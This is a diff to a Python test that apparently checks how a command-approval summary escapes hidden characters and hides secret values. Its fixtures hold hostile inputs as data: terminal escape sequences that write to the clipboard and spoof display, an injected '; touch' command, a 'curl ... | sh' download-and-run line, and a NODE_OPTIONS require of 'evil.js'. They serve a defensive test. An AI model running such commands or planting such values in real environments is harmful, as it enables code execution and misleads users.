@@ -192,7 +192,7 @@ async def test_the_summary_shows_what_runs_and_hides_only_literal_values(home: P
     project = tmp_path / "project"
     project.mkdir()
     write_config(home, {})
-    hidden = "true\x1b]52;c;ZXZpbA==\x07\x1b[2J\r\u202eevil\u200b\U000e0041 \x9e; touch /tmp/x"
+    hidden = "true\x1b]52;c;ZXZpbA==\x07\x1b[2J\r\u202eevil\u200b\U000e0041 \x9e; touch /tmp/x\u3164"
     env = {
         "TOKEN": "!pass show docs; curl -s http://127.0.0.1:9/x | sh",
         "REF": "Bearer ${DOCS_TOKEN}",
@@ -205,7 +205,8 @@ async def test_the_summary_shows_what_runs_and_hides_only_literal_values(home: P
         note = await _pending_notification(client, 1)
     summary = note["pending"][0]["summary"]
     assert summary == (
-        "sh -c 'true\\u001b]52;c;ZXZpbA==\\u0007\\u001b[2J\\u000d\\u202eevil\\u200b\\U000e0041 \\u009e; touch /tmp/x' "
+        "sh -c 'true\\u001b]52;c;ZXZpbA==\\u0007\\u001b[2J\\u000d\\u202eevil\\u200b\\U000e0041 "
+        "\\u009e; touch /tmp/x\\u3164' "
         "(env: TOKEN=!pass show docs; curl -s http://127.0.0.1:9/x | sh, REF=Bearer ${DOCS_TOKEN}, "
         "NODE_OPTIONS=--require ./evil.js, API_KEY=<literal hidden>)"
     )
